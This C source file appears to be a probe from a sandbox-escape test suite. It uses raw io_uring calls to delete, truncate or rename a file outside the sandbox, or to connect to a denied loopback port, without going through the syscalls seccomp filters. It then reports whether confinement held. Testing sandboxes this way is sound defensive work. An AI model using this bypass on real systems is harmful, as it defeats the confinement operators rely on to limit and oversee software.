/* io_uring OP: run a file or socket operation through io_uring, which the
 * kernel performs without the syscall seccomp sees (raw syscalls, no
 * liburing). OP is one of:
 *   unlinkat  IORING_OP_UNLINKAT of an outside file
 *   openat    IORING_OP_OPENAT(O_WRONLY|O_TRUNC) of an outside file
 *   renameat  IORING_OP_RENAMEAT of an outside file to another outside name
 *   connect   IORING_OP_SOCKET + IORING_OP_CONNECT to the denied loopback
 *             address ESC_LADDR where the runner's listener waits
 * Held when io_uring_setup is refused or the operation fails. */
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include "../esc.h"

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array;
	unsigned *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -errno;
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	uint8_t *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	uint8_t *cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
	               MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -errno;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit one prepared sqe and wait for its completion; returns cqe->res. */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail;
	unsigned idx = tail & *r->sq_mask;
	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	long n = syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (n < 0)
		return -errno;
	unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	int res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int do_connect(struct ring *r)
{
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SOCKET;
	sqe.fd = AF_INET;
	sqe.off = SOCK_STREAM;
	int s = ring_run(r, &sqe);
	esc_log("IORING_OP_SOCKET -> %d", s);
	if (s < 0)
		return 1;
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(esc_env("ESC_PORT"))) };
	inet_pton(AF_INET, esc_env("ESC_LADDR"), &sin.sin_addr);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = s;
	sqe.addr = (uint64_t)(uintptr_t)&sin;
	sqe.off = sizeof(sin);
	int c = ring_run(r, &sqe);
	esc_log("IORING_OP_CONNECT -> %d", c);
	return c == 0 ? ESC_BREACH : ESC_HELD;
}

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";
	char name[64];
	snprintf(name, sizeof(name), "io_uring-%s", op);
	esc_start(name);
	char *victim = esc_out("victim");
	struct ring r;
	int err = ring_init(&r);
	if (err < 0) {
		esc_log("io_uring_setup refused: %s", strerror(-err));
		return esc_verdict_victim(victim);
	}
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.fd = AT_FDCWD;
	sqe.addr = (uint64_t)(uintptr_t)victim;
	if (strcmp(op, "unlinkat") == 0) {
		sqe.opcode = IORING_OP_UNLINKAT;
	} else if (strcmp(op, "openat") == 0) {
		sqe.opcode = IORING_OP_OPENAT;
		sqe.open_flags = O_WRONLY | O_TRUNC;
	} else if (strcmp(op, "renameat") == 0) {
		sqe.opcode = IORING_OP_RENAMEAT;
		sqe.len = (unsigned)AT_FDCWD;
		sqe.addr2 = (uint64_t)(uintptr_t)esc_out("renamed");
	} else if (strcmp(op, "connect") == 0) {
		return do_connect(&r);
	} else {
		esc_log("unknown op '%s'", op);
		return 2;
	}
	esc_log("%s -> %d", name, ring_run(&r, &sqe));
	return esc_verdict_victim(victim);
}
